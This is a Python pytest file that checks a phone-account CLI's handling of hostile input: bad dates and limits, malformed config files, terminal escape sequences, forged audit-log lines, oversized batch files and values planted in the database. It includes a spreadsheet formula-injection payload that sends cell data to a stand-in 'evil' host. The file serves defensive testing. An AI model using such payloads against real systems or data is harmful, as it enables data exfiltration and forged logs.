"""Inputs an outside probe found answered with an internal error, a hang, a forged line or
a leaked secret (reliability round 2), through the installed console script.

Every refusal is its documented exit code, an error line and a hint, no traceback, and no
change to the database.
"""

from __future__ import annotations

import json
import os
import re
import threading
from pathlib import Path

import pytest
from typer.testing import CliRunner

from onenumber_cli.cli.app import app
from onenumber_cli.storage.engine import Database
from tests.e2e.test_hostile_input import assert_clean_refusal, run
from tests.integration.test_one_account_per_change import snapshot

ESCAPE = "\x1b[2J\x1b]0;pwned\x07"
FORGED = "\n     9  rename             demo-multi  ok, changed"


def probe_cases(tmp: Path) -> list[tuple[str, list[str], int, dict[str, str]]]:
    def file(name: str, content: bytes) -> str:
        path = tmp / name
        path.write_bytes(content)
        return str(path)

    def config_file(name: str, content: bytes) -> dict[str, str]:
        (tmp / name / "onenumber").mkdir(parents=True, exist_ok=True)
        (tmp / name / "onenumber" / "config.toml").write_bytes(content)
        return {"XDG_CONFIG_HOME": str(tmp / name)}

    fifo_home = tmp / "fifo-config"
    (fifo_home / "onenumber").mkdir(parents=True)
    os.mkfifo(fifo_home / "onenumber" / "config.toml")
    zero_home = tmp / "zero-config"
    (zero_home / "onenumber").mkdir(parents=True)
    (zero_home / "onenumber" / "config.toml").symlink_to("/dev/zero")
    rename = b'{"action": "rename", "account": "demo-multi", "device": "BMW", "name": "X"'
    return [
        ("--at at the calendar's start", ["devices", "register", "demo-multi", "--type", "X",
                                          "--at", "0001-01-01"], 2, {}),
        ("--since at the calendar's end", ["history", "demo-multi", "--since",
                                           "9999-12-31T23:59:59-09:00"], 2, {}),
        ("--until at the calendar's end", ["audit", "--until", "9999-12-31T23:59:59-09:00"],
         2, {}),
        ("--at before the latest event", ["devices", "register", "demo-single", "--type", "X",
                                          "--replace", "--at", "2020-01-01"], 2, {}),
        ("--limit beyond any integer", ["history", "demo-multi", "--limit",
                                        "99999999999999999999"], 2, {}),
        ("--limit beyond a bigint", ["audit", "--limit", str(2**63)], 2, {}),
        ("database URL with port abc", ["status", "demo-multi", "--db",
                                        "postgresql+psycopg://u:secret@h:abc/d"], 2, {}),
        ("config file not UTF-8", ["status", "demo-multi"], 2,
         config_file("latin1", 'operator = "caf\xe9"\n'.encode("latin-1"))),
        ("config value not a string", ["status", "demo-multi"], 2,
         config_file("tz-int", b"tz = 5\n")),
        ("config file is a FIFO", ["status", "demo-multi"], 2,
         {"XDG_CONFIG_HOME": str(fifo_home)}),
        ("config file is /dev/zero", ["status", "demo-multi"], 2,
         {"XDG_CONFIG_HOME": str(zero_home)}),
        ("lock timeout below a millisecond", ["devices", "rename", "demo-multi", "BMW", "Y"],
         2, {"ONENUMBER_LOCK_TIMEOUT": "0.0004"}),
        ("lock timeout NaN", ["status", "demo-multi"], 2, {"ONENUMBER_LOCK_TIMEOUT": "nan"}),
        ("unknown synchronous mode", ["status", "demo-multi"], 2,
         {"ONENUMBER_SQLITE_SYNCHRONOUS": "off"}),
        ("operator with an escape sequence", ["devices", "rename", "demo-multi", "BMW", "Y",
                                              "--operator", "op" + ESCAPE], 2, {}),
        ("operator with a newline", ["service", "subscribe", "new", "--operator", "a\nb"],
         2, {}),
        ("operator of 129 characters", ["service", "subscribe", "new"], 2,
         {"ONENUMBER_OPERATOR": "o" * 129}),
        ("type as a spreadsheet formula", ["devices", "register", "demo-multi", "--type",
                                           '=HYPERLINK("http://evil/?x="&A1,"Click")'], 4, {}),
        ("batch: integer of 5,000 digits", ["batch", "apply", file(
            "digits.jsonl", rename[:-1] + b', "imei": ' + b"1" * 5000 + b"}\n")], 2, {}),
        ("batch: 30,000 levels of nesting", ["batch", "apply", file(
            "nested.jsonl", rename + b', "x": ' + b"[" * 30000 + b"]" * 30000 + b"}\n")],
         2, {}),
        ("batch: lone surrogate with -o json", ["batch", "apply", "-o", "json", file(
            "surrogate.jsonl", b'{"action": "rename", "account": "\\ud800"}\n')], 2, {}),
        ("batch: two action keys", ["batch", "apply", file(
            "keys.jsonl", b'{"action": "rename", "account": "demo-multi", "device": "BMW", '
                          b'"name": "X", "action": "unregister"}\n')], 2, {}),
        ("batch: a column named twice", ["batch", "apply", file(
            "columns.csv", b"action,account,device,name,name\n"
                           b"rename,demo-multi,BMW,X,Y\n")], 2, {}),
        ("batch: a 2 MB line", ["batch", "apply", file(
            "long.csv", b"action,account,device,name\nrename,demo-multi,BMW,"
                        + b"x" * 2_000_000 + b"\n")], 2, {}),
    ]


def test_probe_inputs_are_refused_cleanly_and_change_nothing(db: Database, db_url: str,
                                                            tmp_path: Path) -> None:
    env = {**os.environ, "ONENUMBER_DATABASE_URL": db_url}
    assert run(["demo", "-q"], env).returncode == 0
    before = snapshot(db)
    matrix = probe_cases(tmp_path)
    for name, args, code, extra in matrix:
        result = run(args, {**env, **extra})
        try:
            if "json" in args:  # the error is one JSON object on stderr
                assert result.returncode == code and result.stdout == ""
                assert json.loads(result.stderr)["error"]["code"]
            else:
                assert_clean_refusal(result, code)
            assert "secret" not in result.stderr
        except AssertionError as failure:
            raise AssertionError(f"case {name!r}: {failure}") from None
    assert snapshot(db) == before, "a refused input changed the database"
    print(f"\nprobe inputs [{db.backend}]: {len(matrix)} of {len(matrix)} cases clean")


def test_a_batch_file_that_cannot_be_seeked_is_read_like_any_other(
        db: Database, db_url: str, tmp_path: Path) -> None:
    """A FIFO (what ``<(...)`` gives) is spooled, not an internal error."""
    env = {**os.environ, "ONENUMBER_DATABASE_URL": db_url}
    assert run(["demo", "-q"], env).returncode == 0
    fifo = tmp_path / "rows.csv"
    os.mkfifo(fifo)

    def feed() -> None:
        with fifo.open("wb") as handle:
            handle.write(b"action,account,device,name\nrename,demo-multi,BMW,Car\n")

    writer = threading.Thread(target=feed)
    writer.start()
    result = run(["batch", "apply", str(fifo), "-o", "jsonl"], env)
    writer.join(timeout=10)
    assert result.returncode == 0, result.stderr
    assert json.loads(result.stdout)["changed"] is True


def test_a_bad_batch_cell_fails_its_row_and_the_per_row_batch_goes_on(
        db_url: str, tmp_path: Path) -> None:
    env = {**os.environ, "ONENUMBER_DATABASE_URL": db_url}
    assert run(["demo", "-q"], env).returncode == 0
    path = tmp_path / "rows.csv"
    path.write_text("action,account,type,at\nregister,demo-multi,W,0001-01-01\n"
                    "option-subscribe,demo-single,,\n")
    result = run(["batch", "apply", str(path), "-o", "jsonl"], env)
    assert result.returncode == 1 and "Traceback" not in result.stderr
    rows = [json.loads(line) for line in result.stdout.splitlines()]
    assert [(r["ok"], (r["error"] or {}).get("code")) for r in rows] == [
        (False, "invalid_time"), (True, None)]
    assert "batch " in result.stderr  # the summary, with its batch id


def _plant(db: Database) -> None:
    """Hostile values written behind the tool's back (an old version, a hand edit)."""
    from sqlalchemy import text, update

    from onenumber_cli.storage.models import audit as AUDIT
    from onenumber_cli.storage.models import devices as DEVICES
    from onenumber_cli.storage.models import history as HISTORY

    short = "\x1b[2J\n 9 rename demo-multi ok"  # fits a name's 30 characters
    postgres = db.backend == "postgresql"  # the owner switches revision 0004's rules off
    with db.engine.begin() as conn:
        if postgres:
            conn.execute(text("ALTER TABLE devices DISABLE TRIGGER USER"))
        conn.execute(update(DEVICES).where(DEVICES.c.name == "BMW")
                     .values(name="B" + short, type="T\x1b]0;pwned\x07" + short))
        if postgres:
            conn.execute(text("ALTER TABLE devices ENABLE TRIGGER USER"))
        conn.execute(update(HISTORY).values(name="H" + short))
        conn.execute(update(AUDIT).values(operator="op" + ESCAPE + FORGED))


@pytest.mark.parametrize("lang", ["en", "ja"])
def test_every_human_output_escapes_hostile_values(db: Database, db_url: str,
                                                   tmp_path: Path, lang: str,
                                                   monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("ONENUMBER_DATABASE_URL", db_url)
    runner = CliRunner()

    def cli(*args: str) -> tuple[int, str]:
        result = runner.invoke(app, ["--lang", lang, *args], catch_exceptions=False)
        return result.exit_code, result.stdout + result.stderr

    assert cli("demo")[0] == 0
    _plant(db)
    bad_batch = tmp_path / "bad.csv"
    bad_batch.write_bytes(b"action,account,device,name\n\"rename\x1b[2J\",\"demo-multi"
                          + FORGED.encode() + b'",x,y\n')
    commands = [
        ("status", "demo-multi"), ("devices", "list", "demo-multi"),
        ("history", "demo-multi"), ("audit",), ("accounts", "list"), ("check",),
        ("batch", "apply", str(bad_batch)), ("devices", "show", "demo-multi", "1"),
    ]
    for args in commands:
        code, output = cli(*args)
        assert "\x1b" not in output and "\x07" not in output, (args, output)
        forged = [line for line in output.splitlines()
                  if re.match(r"\s+9\s+rename\s+demo-multi\s+ok", line)]
        assert forged == [], (args, output)
    device_id = next(line for line in cli("devices", "list", "demo-multi", "-o", "csv")[1]
                     .splitlines() if "B\x1b" in line).split(",")[1]
    code, output = cli("devices", "show", "demo-multi", device_id)
    assert code == 0 and "\\u001b" in output and "\x1b" not in output
